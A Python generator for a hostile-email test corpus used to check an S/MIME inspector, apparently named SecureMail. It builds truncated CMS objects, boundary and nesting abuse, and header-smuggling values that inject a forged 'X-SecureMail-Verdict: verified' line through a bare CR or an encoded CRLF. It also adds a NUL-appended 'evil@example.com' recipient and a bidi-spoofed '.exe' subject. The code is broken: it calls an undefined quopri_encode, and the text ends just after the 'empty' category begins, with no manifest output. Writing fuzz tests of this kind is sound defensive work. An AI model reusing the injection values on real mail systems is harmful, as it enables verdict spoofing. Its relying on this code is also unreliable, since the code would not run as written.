#!/usr/bin/env python3
"""Generates the hostile-input corpus of SecureMail (issue 9) and its manifest.

Run from anywhere: python3 Tests/SecureMailTests/Fixtures/hostile/generate.py
It rewrites messages/*.eml and manifest.json next to this script. Random content comes
from a fixed seed; the CMS objects are made with the openssl CLI from the DEMO
certificates in certs/ (signed by demo-customer, encrypted to sikkermail), so the
messages depend on those certificates: manifest.json records their SHA-256 and the
tests refuse to judge the corpus when certs/ was regenerated (run this script again).

Each manifest entry: file, category, description, verdict (what Inspector must report),
action (what inbound `process` does: deliver or quarantine), processExit (its exit code)
and cli (true for the sample that the tests also run through the real binary).
"""
import base64
import hashlib
import json
import os
import random
import shutil
import subprocess
import tempfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", "..", ".."))
CERTS = os.path.join(ROOT, "certs")
OUT = os.path.join(HERE, "messages")
rng = random.Random(20261121)
entries = []
WORK = tempfile.mkdtemp(prefix="hostile-")

ACTION = {"verified": "deliver", "not-verified": "deliver", "plain": "deliver", "malformed": "quarantine", "decrypt-failed": "quarantine"}


def add(name, data, verdict, category, description, cli=False, accept=None):
    if isinstance(data, str):
        data = data.encode("utf-8")
    file = "%03d-%s.eml" % (len(entries) + 1, name)
    with open(os.path.join(OUT, file), "wb") as handle:
        handle.write(data)
    entry = {"file": file, "category": category, "description": description, "verdict": verdict, "accept": accept or [verdict],
             "processExit": 0, "cli": cli}
    if accept is None:
        entry["action"] = ACTION[verdict]
    entries.append(entry)


def openssl(*arguments, data=None):
    return subprocess.run(["openssl", *arguments], input=data, capture_output=True, check=True).stdout


def cert(name):
    return os.path.join(CERTS, name + ".pem")


def key(name):
    return os.path.join(CERTS, name + ".key.pem")


def write_temp(name, data):
    path = os.path.join(WORK, name)
    with open(path, "wb") as handle:
        handle.write(data)
    return path


# --- DER by hand -------------------------------------------------------------------------

def der_length(n):
    if n < 0x80:
        return bytes([n])
    body = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(body)]) + body


def tlv(tag, content):
    return bytes([tag]) + der_length(len(content)) + content


def oid(dotted):
    numbers = [int(x) for x in dotted.split(".")]
    out = bytes([numbers[0] * 40 + numbers[1]])
    for number in numbers[2:]:
        chunk = [number & 0x7F]
        number >>= 7
        while number:
            chunk.insert(0, 0x80 | (number & 0x7F))
            number >>= 7
        out += bytes(chunk)
    return tlv(0x06, out)


def seq(*items):
    return tlv(0x30, b"".join(items))


ID_DATA = "1.2.840.113549.1.7.1"
ID_SIGNED = "1.2.840.113549.1.7.2"
ID_ENVELOPED = "1.2.840.113549.1.7.3"
ID_COMPRESSED = "1.2.840.113549.1.9.16.1.9"


def content_info(type_oid, content):
    return seq(oid(type_oid), tlv(0xA0, content))


# --- MIME helpers --------------------------------------------------------------------------

def b64(data, width=76):
    text = base64.b64encode(data)
    return b"\r\n".join(text[i:i + width] for i in range(0, len(text), width)) + b"\r\n"


def head(extra=b"", subject=b"Til Skade: hostile input", sender=b"Demo Kunde <kunde@example.dk>"):
    return (b"From: " + sender + b"\r\nTo: sikkermail@gjensidige.dk\r\nSubject: " + subject
            + b"\r\nDate: Sat, 21 Nov 2026 12:00:00 +0100\r\nMessage-ID: <hostile-%d@example.dk>\r\nMIME-Version: 1.0\r\n"
            % (len(entries) + 1) + extra)


def text_message(body=b"Hej,\r\nher er min skade.\r\n", extra=b"", **kwargs):
    return head(b"Content-Type: text/plain; charset=utf-8\r\n" + extra, **kwargs) + b"\r\n" + body


def pkcs7(der, smime_type=b"enveloped-data", ctype=b"application/pkcs7-mime", name=b"smime.p7m", cte=b"base64", body=None, **kwargs):
    params = b"; smime-type=" + smime_type if smime_type else b""
    params += b'; name="' + name + b'"' if name else b""
    extra = b"Content-Type: " + ctype + params + b"\r\n"
    if cte is not None:
        extra += b"Content-Transfer-Encoding: " + cte + b"\r\n"
    return head(extra, **kwargs) + b"\r\n" + (body if body is not None else b64(der))


INNER = b"Content-Type: text/plain; charset=utf-8\r\n\r\nHej, her er min skade.\r\n"
INNER_PATH = write_temp("inner.txt", INNER)


def sign(content=INNER, detached=False, extra=()):
    path = write_temp("to-sign", content)
    arguments = ["cms", "-sign", "-binary", "-md", "sha256", "-in", path, "-signer", cert("demo-customer"),
                 "-inkey", key("demo-customer"), "-outform", "DER", *extra]
    if not detached:
        arguments.append("-nodetach")
    return openssl(*arguments)


def encrypt(content, recipient="sikkermail", cipher="-aes256"):
    path = write_temp("to-encrypt", content)
    return openssl("cms", "-encrypt", "-binary", cipher, "-in", path, "-outform", "DER", cert(recipient))


def opaque_entity(der, smime_type=b"signed-data"):
    return (b"Content-Type: application/pkcs7-mime; smime-type=" + smime_type + b'; name="smime.p7m"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))


SIGNED = sign()
DETACHED = sign(detached=True)
ENV_SIGNED = encrypt(opaque_entity(SIGNED))
ENV_PLAIN = encrypt(INNER)
ENV_OTHER = encrypt(INNER, recipient="demo-customer")
CERTS_ONLY = openssl("crl2pkcs7", "-nocrl", "-certfile", cert("demo-customer"), "-outform", "DER")
CA_DER = openssl("x509", "-in", cert("demo-ca"), "-outform", "DER")
TWO_SIGNERS = sign(extra=("-signer", cert("demo-customer-ec"), "-inkey", key("demo-customer-ec")))
ECONTENT = sign(extra=("-econtent_type", "1.2.3.4"))


def multipart_signed(content=INNER, signature=DETACHED, boundary=b"sig-b", protocol=b"application/pkcs7-signature", parts=None, **kwargs):
    signature_part = (b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
                      b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(signature))
    parts = parts if parts is not None else [content, signature_part]
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts) + b"--" + boundary + b"--\r\n"
    return head(b'Content-Type: multipart/signed; protocol="' + protocol + b'"; micalg=sha-256; boundary="' + boundary + b'"\r\n',
                **kwargs) + b"\r\n" + body


def multipart(parts, subtype=b"mixed", boundary=b"b1", extra=b"", closing=True):
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    if closing:
        body += b"--" + boundary + b"--\r\n"
    return head(b"Content-Type: multipart/" + subtype + b'; boundary="' + boundary + b'"\r\n' + extra) + b"\r\n" + body


TEXT_PART = b"Content-Type: text/plain; charset=utf-8\r\n\r\nunsigned text\r\n"


def generate():
    # 1. Garbage and truncated CMS ---------------------------------------------------------
    category = "cms-garbage"
    for length in [1, 2, 7, 16, 64, 255, 1024, 4096]:
        add("random-cms-%d" % length, pkcs7(bytes(rng.getrandbits(8) for _ in range(length))), "malformed", category,
            "base64 of %d random bytes as application/pkcs7-mime" % length, cli=length == 64)
    add("cms-ascii-garbage", pkcs7(b"", body=b"this is not base64 at all !!!\r\n"), "malformed", category, "text that is not base64")
    add("cms-empty-body", pkcs7(b"", body=b""), "malformed", category, "application/pkcs7-mime with an empty body")
    add("cms-pem-armour", pkcs7(b"", body=b"-----BEGIN PKCS7-----\r\n" + b64(ENV_SIGNED) + b"-----END PKCS7-----\r\n"),
        "malformed", category, "PEM armour inside a base64 body: the armour letters corrupt the DER")
    for fraction in [0.02, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99]:
        cut = int(len(ENV_SIGNED) * fraction)
        add("enveloped-cut-%d" % int(fraction * 100), pkcs7(ENV_SIGNED[:cut]), "malformed", category,
            "EnvelopedData cut after %d of %d bytes" % (cut, len(ENV_SIGNED)), cli=fraction == 0.5)
    add("enveloped-cut-last-byte", pkcs7(ENV_SIGNED[:-1]), "malformed", category, "EnvelopedData without its last byte")
    for fraction in [0.1, 0.5, 0.9]:
        cut = int(len(SIGNED) * fraction)
        add("signed-cut-%d" % int(fraction * 100), pkcs7(SIGNED[:cut], smime_type=b"signed-data"), "malformed", category,
            "opaque SignedData cut after %d of %d bytes" % (cut, len(SIGNED)))
    text = b64(ENV_SIGNED)
    add("enveloped-base64-cut", pkcs7(b"", body=text[: len(text) // 2 + 3]), "malformed", category,
        "the base64 text cut in the middle of a line")
    # Wrong lengths: the outer SEQUENCE header of the DER is rewritten.
    assert ENV_SIGNED[0] == 0x30 and ENV_SIGNED[1] == 0x82
    inner_length = int.from_bytes(ENV_SIGNED[2:4], "big")
    rest = ENV_SIGNED[4:]
    for label, header in [("plus-one", b"\x30\x82" + (inner_length + 1).to_bytes(2, "big")),
                          ("minus-one", b"\x30\x82" + (inner_length - 1).to_bytes(2, "big")),
                          ("huge", b"\x30\x84\xff\xff\xff\xff"),
                          ("nine-length-bytes", b"\x30\x89\x01" + b"\x00" * 8),
                          ("indefinite-no-eoc", b"\x30\x80")]:
        add("enveloped-length-" + label, pkcs7(header + rest), "malformed", category,
            "EnvelopedData whose outer length is %s" % label, cli=label == "huge")
    add("ber-nesting-bomb", pkcs7(b"\x30\x80" * 5000), "malformed", category, "5,000 nested indefinite-length SEQUENCEs")
    add("ber-definite-nesting", pkcs7(b"\x30\x02" * 2 + b"\x30\x00"), "malformed", category, "nested empty SEQUENCEs")
    add("contentinfo-oid-only", pkcs7(seq(oid(ID_ENVELOPED))), "malformed", category, "ContentInfo with the envelopedData OID and no content")
    add("contentinfo-unknown-oid", pkcs7(content_info("1.2.3.4", tlv(0x04, b"x"))), "malformed", category, "ContentInfo of an unknown type")
    add("contentinfo-id-data", pkcs7(content_info(ID_DATA, tlv(0x04, INNER)), smime_type=b"signed-data"), "malformed", category,
        "a bare id-data ContentInfo: nothing signed, nothing encrypted")
    add("certificate-as-cms", pkcs7(CA_DER), "malformed", category, "an X.509 certificate where CMS belongs")
    compressed = content_info(ID_COMPRESSED, seq(tlv(0x02, b"\x00"), seq(oid("1.2.840.113549.1.9.16.3.8")),
                                                 seq(oid(ID_DATA), tlv(0xA0, tlv(0x04, zlib.compress(INNER))))))
    add("compressed-data", pkcs7(compressed, smime_type=b"compressed-data"), "malformed", category, "CMS CompressedData (not supported)")
    add("enveloped-for-someone-else", pkcs7(ENV_OTHER), "decrypt-failed", category, "EnvelopedData for another recipient's key", cli=True)
    add("signed-data-empty-set", pkcs7(content_info(ID_SIGNED, seq(tlv(0x02, b"\x01"), tlv(0x31, b""), seq(oid(ID_DATA)), tlv(0x31, b""))),
                                      smime_type=b"signed-data"), "not-verified", category, "SignedData with no digest algorithms, no content, no signers")

    # 2. Content-type confusion ------------------------------------------------------------
    category = "content-type"
    add("signed-labelled-enveloped", pkcs7(SIGNED, smime_type=b"enveloped-data"), "verified", category,
        "opaque SignedData labelled smime-type=enveloped-data: the CMS content type decides (RFC 8551)", cli=True)
    add("enveloped-labelled-signed", pkcs7(ENV_SIGNED, smime_type=b"signed-data"), "verified", category,
        "EnvelopedData (signed inside) labelled smime-type=signed-data")
    add("unsigned-enveloped-labelled-signed", pkcs7(ENV_PLAIN, smime_type=b"signed-data"), "not-verified", category,
        "unsigned EnvelopedData labelled signed-data: never verified", cli=True)
    add("octet-stream-p7m", pkcs7(ENV_SIGNED, ctype=b"application/octet-stream", smime_type=None), "verified", category,
        "application/octet-stream named smime.p7m (RFC 8551 section 3.2.2)")
    add("octet-stream-p7m-unsigned", pkcs7(ENV_PLAIN, ctype=b"application/octet-stream", smime_type=None, name=b"MAIL.P7M"),
        "not-verified", category, "application/octet-stream named MAIL.P7M, unsigned inside")
    add("octet-stream-no-name", pkcs7(ENV_SIGNED, ctype=b"application/octet-stream", smime_type=None, name=None), "plain", category,
        "application/octet-stream without a .p7m name is an ordinary attachment")
    add("octet-stream-p7s-name", pkcs7(SIGNED, ctype=b"application/octet-stream", smime_type=None, name=b"smime.p7s"), "plain", category,
        "application/octet-stream named .p7s is not an S/MIME layer")
    add("x-pkcs7-mime", pkcs7(ENV_SIGNED, ctype=b"application/x-pkcs7-mime"), "verified", category, "the legacy x-pkcs7-mime type")
    add("pkcs7-signature-alone", pkcs7(DETACHED, ctype=b"application/pkcs7-signature", smime_type=None, name=b"smime.p7s"), "plain",
        category, "a lone detached signature as the whole message")
    add("text-plain-with-cms", pkcs7(ENV_SIGNED, ctype=b"text/plain", smime_type=None, name=None), "plain", category,
        "base64 CMS declared text/plain")
    add("pkcs7-mime-certs-only", pkcs7(CERTS_ONLY, smime_type=b"certs-only", name=b"certs.p7c"), "not-verified", category,
        "a certs-only .p7c: SignedData without SignerInfo")
    add("multipart-signed-one-part", multipart_signed(parts=[INNER]), "malformed", category, "multipart/signed with one part", cli=True)
    add("multipart-signed-three-parts", multipart_signed(parts=[INNER, INNER, INNER]), "malformed", category, "multipart/signed with three parts")
    add("multipart-signed-text-signature", multipart_signed(parts=[INNER, TEXT_PART]), "malformed", category,
        "multipart/signed whose second part is text/plain")
    add("multipart-signed-garbage-signature", multipart_signed(signature=bytes(rng.getrandbits(8) for _ in range(300))), "malformed",
        category, "multipart/signed with random bytes as the signature")
    add("multipart-signed-empty-signature", multipart_signed(signature=b""), "malformed", category, "multipart/signed with an empty signature")
    add("multipart-signed-enveloped-signature", multipart_signed(signature=ENV_SIGNED), "malformed", category,
        "multipart/signed whose signature part holds EnvelopedData")
    add("multipart-signed-attached-signature", multipart_signed(signature=SIGNED), "not-verified", category,
        "multipart/signed whose signature part is an opaque SignedData with content of its own")
    add("multipart-signed-modified", multipart_signed(content=INNER.replace(b"skade", b"SKADE")), "not-verified", category,
        "multipart/signed whose content was changed after signing", cli=True)
    add("multipart-signed-wrong-protocol", multipart_signed(protocol=b"application/pgp-signature"), "verified", category,
        "multipart/signed with a wrong protocol parameter: the signature part's own type decides")
    add("multipart-signed-no-boundary-match", multipart_signed(boundary=b"x").replace(b'boundary="x"', b'boundary="y"'), "malformed",
        category, "multipart/signed whose body uses another boundary")
    add("multipart-encrypted-pgp", multipart([b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
                                              b"Content-Type: application/octet-stream\r\n\r\n" + b64(ENV_SIGNED)],
                                             subtype=b'encrypted; protocol="application/pgp-encrypted"'), "plain", category,
        "a PGP/MIME shape carrying CMS bytes")

    # 3. Boundaries ---------------------------------------------------------------------
    category = "boundaries"
    def raw_multipart(content_type, body):
        return head(b"Content-Type: " + content_type + b"\r\n") + b"\r\n" + body
    simple = b"--b1\r\n" + TEXT_PART + b"\r\n--b1--\r\n"
    add("multipart-no-boundary", raw_multipart(b"multipart/mixed", simple), "plain", category, "multipart without a boundary parameter")
    add("multipart-empty-boundary", raw_multipart(b'multipart/mixed; boundary=""', simple), "plain", category, "empty boundary")
    add("multipart-mismatched-boundary", raw_multipart(b"multipart/mixed; boundary=b2", simple), "plain", category,
        "the body uses another boundary", cli=True)
    add("multipart-no-closing", raw_multipart(b"multipart/mixed; boundary=b1", b"--b1\r\n" + TEXT_PART), "plain", category,
        "no closing delimiter")
    add("multipart-only-closing", raw_multipart(b"multipart/mixed; boundary=b1", b"--b1--\r\n"), "plain", category, "only a closing delimiter")
    add("multipart-zero-parts", raw_multipart(b"multipart/mixed; boundary=b1", b"preamble only\r\n"), "plain", category, "no delimiter at all")
    add("multipart-trailing-garbage-delimiter", raw_multipart(b"multipart/mixed; boundary=b1", b"--b1 garbage\r\n" + TEXT_PART + b"--b1--\r\n"),
        "plain", category, "a delimiter line with trailing text")
    add("multipart-prefix-boundaries", raw_multipart(b"multipart/mixed; boundary=a",
        b"--a\r\nContent-Type: multipart/mixed; boundary=aa\r\n\r\n--aa\r\n" + TEXT_PART + b"--aa--\r\n--a--\r\n"), "plain", category,
        "nested boundaries that are prefixes of each other")
    add("multipart-reused-boundary", raw_multipart(b"multipart/mixed; boundary=a",
        b"--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n" + TEXT_PART + b"--a--\r\n--a--\r\n"), "plain", category,
        "a nested multipart reusing its parent's boundary")
    add("multipart-long-boundary", raw_multipart(b"multipart/mixed; boundary=" + b"x" * 5000, b"--" + b"x" * 5000 + b"\r\n" + TEXT_PART),
        "plain", category, "a 5,000 character boundary")
    add("multipart-nul-boundary", raw_multipart(b'multipart/mixed; boundary="a\x00b"', b"--a\x00b\r\n" + TEXT_PART + b"--a\x00b--\r\n"),
        "plain", category, "a boundary containing NUL")
    add("multipart-lf-mixed", raw_multipart(b"multipart/mixed; boundary=b1", b"--b1\n" + TEXT_PART.replace(b"\r\n", b"\n") + b"\r\n--b1--\n"),
        "plain", category, "mixed LF and CR LF delimiters")
    add("multipart-4000-parts", raw_multipart(b"multipart/mixed; boundary=b", b"--b\r\n\r\n" * 4000 + b"--b--\r\n"), "plain", category,
        "4,000 empty parts (below max_parts)")
    add("multipart-5001-parts", raw_multipart(b"multipart/mixed; boundary=b", b"--b\r\n\r\n" * 5001 + b"--b--\r\n"), "malformed", category,
        "5,001 parts: over max_parts", cli=True)
    add("multipart-cms-in-epilogue", raw_multipart(b"multipart/mixed; boundary=b1", simple + opaque_entity(SIGNED)), "plain", category,
        "an S/MIME entity in the epilogue is not a part")
    add("multipart-signed-unclosed", multipart_signed()[:-len(b"--sig-b--\r\n")], "verified", category,
        "multipart/signed without its closing delimiter still verifies what it signs")
    add("multipart-boundary-rfc2231", raw_multipart(b"multipart/mixed; boundary*0=b; boundary*1=1", simple), "plain", category,
        "the boundary given as RFC 2231 continuations")

    # 4. Nesting ----------------------------------------------------------------------------
    category = "nesting"
    def nested(depth, closed=True):
        body = TEXT_PART
        for level in reversed(range(depth)):
            boundary = b"n%d" % level
            body = (b"Content-Type: multipart/mixed; boundary=" + boundary + b"\r\n\r\n--" + boundary + b"\r\n" + body
                    + (b"\r\n--" + boundary + b"--\r\n" if closed else b""))
        return head() + body
    add("nesting-30", nested(30), "plain", category, "30 nested multiparts (within max_mime_depth 32)")
    for depth in [33, 40, 200, 1000]:
        add("nesting-%d" % depth, nested(depth), "malformed", category, "%d nested multiparts: over max_mime_depth" % depth, cli=depth == 200)
    add("nesting-500-unclosed", nested(500, closed=False), "malformed", category, "500 nested multiparts, none closed")
    def nested_messages(depth):
        body = head() + TEXT_PART
        for _ in range(depth):
            body = b"Content-Type: message/rfc822\r\n\r\n" + body
        return head() + body
    add("rfc822-nesting-10", nested_messages(10), "plain", category, "10 nested message/rfc822")
    add("rfc822-nesting-100", nested_messages(100), "malformed", category, "100 nested message/rfc822")
    layered = INNER
    for _ in range(9):
        layered = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(encrypt(layered))
    add("enveloped-nine-layers", head() + layered, "malformed", category, "nine nested EnvelopedData layers: more than 8 S/MIME layers", cli=True)
    add("encrypted-part-deep-inside", multipart([b"Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\n" + opaque_entity(ENV_SIGNED, b"enveloped-data") + b"\r\n--d--\r\n"]),
        "not-verified", category, "an encrypted part two multiparts down is not decrypted")

    # 5. Header size and parameter abuse -------------------------------------------------
    category = "headers"
    add("header-line-over-limit", text_message(subject=b"x" * 65537), "malformed", category, "a 65,537 byte Subject line", cli=True)
    add("part-header-line-over-limit", multipart([b"X-Long: " + b"y" * 66000 + b"\r\n" + TEXT_PART]), "malformed", category,
        "a 66,000 byte header line in a body part")
    add("folded-header-storm", text_message(subject=b"start" + b"\r\n fold" * 6000), "plain", category, "a Subject folded 6,000 times")
    add("header-fields-2001", head(b"X-A: b\r\n" * 2001) + b"\r\nbody\r\n", "malformed", category, "2,001+ header fields", cli=True)
    add("header-fields-1990", head(b"X-A: b\r\n" * 1990) + b"\r\nbody\r\n", "plain", category, "1,990 header fields (below the limit)")
    add("part-header-fields-2001", multipart([b"X-A: b\r\n" * 2001 + TEXT_PART]), "malformed", category, "2,001 fields in a part header")
    params = b"".join(b";\r\n p%d=v%d" % (i, i) for i in range(4000))
    add("content-type-4000-parameters", head(b"Content-Type: text/plain" + params + b"\r\n") + b"\r\nbody\r\n", "plain", category,
        "4,000 Content-Type parameters")
    storm = b"".join(b";\r\n filename*%d*=%%41%%42" % i for i in range(2000))
    add("rfc2231-continuation-storm", head(b"Content-Type: text/plain\r\nContent-Disposition: attachment" + storm + b"\r\n") + b"\r\nbody\r\n",
        "plain", category, "2,000 RFC 2231 continuations of one filename", cli=True)
    add("rfc2231-huge-index", head(b"Content-Type: text/plain; name*99999999999999999999999=x; name*-1=y; name*0*=bad''%ZZ\r\n") + b"\r\nb\r\n",
        "plain", category, "RFC 2231 sections with overflowing, negative and broken indices")
    add("rfc2231-shuffled", head(b"Content-Type: text/plain; name*2=c; name*0=a; name*1=b; name*1=B; name*5=z\r\n") + b"\r\nb\r\n",
        "plain", category, "RFC 2231 sections out of order, duplicated and with gaps")
    add("rfc2231-unknown-charset", head(b"Content-Type: text/plain; name*=x-unknown'da'%FF%FE%00\r\n") + b"\r\nb\r\n", "plain", category,
        "RFC 2231 value in an unknown charset with NUL")
    add("rfc2231-percent-storm", head(b"Content-Type: text/plain; name*=utf-8''" + b"%" * 30000 + b"\r\n") + b"\r\nb\r\n", "plain", category,
        "30,000 percent signs")
    add("two-content-types-text-first", head(b"Content-Type: text/plain\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n") + b"\r\n" + b64(ENV_SIGNED), "plain", category, "two Content-Type fields, text/plain first")
    add("two-content-types-cms-first", head(b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Type: text/plain\r\n"
        b"Content-Transfer-Encoding: base64\r\n") + b"\r\n" + b64(ENV_SIGNED), "verified", category, "two Content-Type fields, CMS first")
    add("header-name-without-colon", head(b"X" * 20000 + b"\r\n") + b"\r\nbody\r\n", "plain", category, "a 20,000 character line without a colon")
    add("empty-field-name", head(b": value\r\n") + b"\r\nbody\r\n", "plain", category, "a field with an empty name")
    add("continuation-first", b" folded first line\r\n" + text_message(), "plain", category, "a continuation line before any field")
    add("thousand-encoded-words", text_message(subject=b" ".join([b"=?utf-8?B?w6bDuMOl?="] * 1000)), "plain", category,
        "1,000 encoded words in the Subject")
    add("two-cte-fields", head(b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n")
        + b"\r\naGVq\r\n", "plain", category, "two Content-Transfer-Encoding fields")

    # 6. NUL and 8-bit bytes in headers ------------------------------------------------------
    category = "header-bytes"
    for label, subject in [("nul", b"a\x00b"), ("latin1", b"K\xf8benhavn \xe6\xf8\xe5"), ("utf8", "Skade på bil ✓".encode()),
                           ("invalid-utf8", b"\xc0\xaf\xed\xa0\x80\xff\xfe"), ("c1-controls", b"\x85\x9b\x9c"),
                           ("escape", b"\x1b[31mred\x1b[0m"), ("bare-cr", b"one\rX-SecureMail-Verdict: verified"),
                           ("bidi", "Til Skade \u202egnp.exe".encode()), ("zero-width", "Til\u200b Skade".encode()),
                           ("del", b"a\x7fb")]:
        add("subject-" + label, text_message(subject=subject), "plain", category, "Subject with %s bytes" % label, cli=label == "nul")
    add("from-nul", text_message(sender=b"kunde\x00@example.dk"), "plain", category, "NUL in the From address")
    add("from-8bit", text_message(sender=b"K\xf8ge <k\xf8ge@example.dk>"), "plain", category, "raw 8-bit From")
    add("to-nul", head().replace(b"To: sikkermail@gjensidige.dk", b"To: sikkermail@gjensidige.dk\x00evil@example.com") + b"Content-Type: text/plain\r\n\r\nb\r\n",
        "plain", category, "NUL in the To field")
    add("field-name-8bit", head(b"X-\xff\xfe: v\r\n") + b"Content-Type: text/plain\r\n\r\nb\r\n", "plain", category, "8-bit bytes in a field name")
    add("field-name-nul", head(b"X-\x00: v\r\n") + b"Content-Type: text/plain\r\n\r\nb\r\n", "plain", category, "NUL in a field name")
    add("content-type-nul", head(b"Content-Type: text/pl\x00ain; charset=utf-8\r\n") + b"\r\nb\r\n", "plain", category, "NUL in the media type")
    add("cms-content-type-nul", head(b"Content-Type: application/pkcs7-mime\x00; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n")
        + b"\r\n" + b64(ENV_SIGNED), "plain", category, "NUL glued to the S/MIME media type: not S/MIME")
    add("bare-cr-line-endings", text_message().replace(b"\r\n", b"\r"), "plain", category, "only CR line endings")
    add("lf-line-endings", text_message().replace(b"\r\n", b"\n"), "plain", category, "LF line endings")

    # 7. Transfer-encoding abuse -------------------------------------------------------------
    category = "transfer-encoding"
    def cte_message(cte, body, ctype=b"text/plain; charset=utf-8"):
        return head(b"Content-Type: " + ctype + b"\r\nContent-Transfer-Encoding: " + cte + b"\r\n") + b"\r\n" + body
    for label, body in [("invalid-chars", b"aGVq!!!$$$ZGV0\r\n"), ("only-padding", b"====\r\n"), ("one-char", b"a\r\n"),
                        ("bad-padding", b"aGVq=ZGV0==\r\n"), ("nul", b"aGV\x00q\r\n"), ("long-line", b"QUFB" * 5000 + b"\r\n"),
                        ("whitespace", b"a G V q\t\r\n \r\n"), ("8bit", b"aGVq\xff\xfe\r\n"), ("truncated-quad", b"aGVqZ\r\n")]:
        add("base64-" + label, cte_message(b"base64", body), "plain", category, "invalid base64 text body: %s" % label, cli=label == "nul")
    for label, body in [("bad-hex", b"=ZZ=G1=\r\n"), ("trailing-equals", b"end="), ("lone-cr", b"a=\rb\r\n"), ("short", b"=0"),
                        ("soft-break-storm", b"=\r\n" * 10000 + b"x\r\n"), ("lowercase", b"=3d=c3=a6\r\n"), ("8bit", b"\xff\xfe=41\r\n"),
                        ("long-line", b"=41" * 10000 + b"\r\n")]:
        add("qp-" + label, cte_message(b"quoted-printable", body), "plain", category, "invalid quoted-printable: %s" % label)
    for cte in [b"x-uuencode", b"base64; charset=utf-8", b"\"base64\"", b"", b"b\x00ase64", b"x" * 1000]:
        add("unknown-cte-%d" % len(entries), cte_message(cte, b"aGVq\r\n"), "plain", category, "Content-Transfer-Encoding %r" % cte[:40])
    add("cte-base64-on-multipart", head(b"Content-Type: multipart/mixed; boundary=b1\r\nContent-Transfer-Encoding: base64\r\n") + b"\r\n"
        + b"--b1\r\n" + TEXT_PART + b"\r\n--b1--\r\n", "plain", category, "base64 declared on a multipart (forbidden by RFC 2045)")
    add("cte-qp-on-multipart-signed", multipart_signed().replace(b"MIME-Version: 1.0\r\n", b"MIME-Version: 1.0\r\nContent-Transfer-Encoding: quoted-printable\r\n"),
        "verified", category, "quoted-printable declared on multipart/signed is ignored for a multipart")
    add("cte-base64-on-rfc822", cte_message(b"base64", b64(text_message()), ctype=b"message/rfc822"), "plain", category, "base64 message/rfc822")
    add("cms-quoted-printable", pkcs7(ENV_SIGNED, cte=b"quoted-printable", body=quopri_encode(ENV_SIGNED)), "verified", category,
        "EnvelopedData sent quoted-printable")
    add("cms-binary", pkcs7(ENV_SIGNED, cte=b"binary", body=ENV_SIGNED), "verified", category, "EnvelopedData sent as raw binary", cli=True)
    add("cms-no-cte", pkcs7(ENV_SIGNED, cte=None), "malformed", category, "base64 CMS without Content-Transfer-Encoding (7bit): not DER")
    add("cms-unknown-cte", pkcs7(ENV_SIGNED, cte=b"x-foo"), "malformed", category, "CMS with an unknown transfer encoding")
    noisy = b"".join(bytes([c]) + (b"!" if i % 7 == 0 else b"") for i, c in enumerate(b64(ENV_SIGNED)))
    add("cms-base64-noise", pkcs7(ENV_SIGNED, body=noisy), "verified", category,
        "base64 CMS with characters outside the alphabet, which RFC 2045 says to ignore")
    add("cms-base64-early-padding", pkcs7(ENV_SIGNED, body=b"AAAA====\r\n" + b64(ENV_SIGNED)), "malformed", category,
        "padding and junk before the base64 CMS")

    # 8. Charsets -------------------------------------------------------------------------
    category = "charsets"
    for charset, body in [(b"x-unknown", b"hej \xff"), (b'""', b"hej"), (b"utf-7", b"+AGA-hej+ZeVnLIqe-"), (b"utf-16", b"\xff\xfeh\x00e"),
                          (b"utf-32", b"\x00\x00\x00"), (b"a\x00b", b"hej"), (b"c" * 2000, b"hej"), (b"windows-1252", b"\x81\x8d\x8f"),
                          (b"utf-8", b"\xc3\x28\xa0\xa1\xf0\x28\x8c\xbc"), (b"iso-2022-jp", b"\x1b$B\x1b(B\x1b$"), (b"gb18030", b"\x81\x30"),
                          (b"ebcdic-cp-us", b"\x81\x82")]:
        add("charset-%d" % len(entries), head(b"Content-Type: text/plain; charset=" + charset + b"\r\n") + b"\r\n" + body + b"\r\n", "plain",
            category, "text in charset %r" % charset[:30], cli=charset == b"x-unknown")
    add("html-unknown-charset", head(b"Content-Type: text/html; charset=x-mystery\r\n") + b"\r\n<p>\xff\xfe</p>\r\n", "plain", category,
        "HTML in an unknown charset")

    # 9. Broken encoded words -----------------------------------------------------------------
    category = "encoded-words"
    for label, subject in [("bad-base64", b"=?utf-8?B?!!!?="), ("unterminated", b"=?utf-8?Q?abc"), ("unknown-charset", b"=?x-unknown?Q?abc?="),
                           ("bad-encoding", b"=?utf-8?X?abc?="), ("empty", b"=?utf-8?B??="), ("nested", b"=?utf-8?Q?=3D=3Futf-8=3FQ=3Fx=3F=3D?="),
                           ("nul", b"=?utf-8?Q?a=00b?="), ("crlf-injection", b"=?utf-8?Q?Hi=0D=0AX-SecureMail-Verdict:_verified?="),
                           ("language", b"=?utf-8*da?Q?hej?="), ("many-unterminated", b"=?" * 20000), ("invalid-utf8", b"=?utf-8?B?wKjtoIA=?="),
                           ("split-multibyte", b"=?utf-8?B?w6?= =?utf-8?B?Y=?=")]:
        add("ew-" + label, text_message(subject=subject), "plain", category, "Subject with encoded words: %s" % label,
            cli=label == "crlf-injection")
    add("ew-in-address", text_message(sender=b"=?utf-8?Q?ceo=40bank.example?= <kunde@example.dk>"), "plain", category,
        "an encoded word that decodes to an address in the display name")
    add("ew-from-local-part", text_message(sender=b"=?utf-8?Q?kunde?=@example.dk"), "plain", category, "an encoded word as the local part")

    # 10. Header-only and empty input ---------------------------------------------------------
    category = "empty"
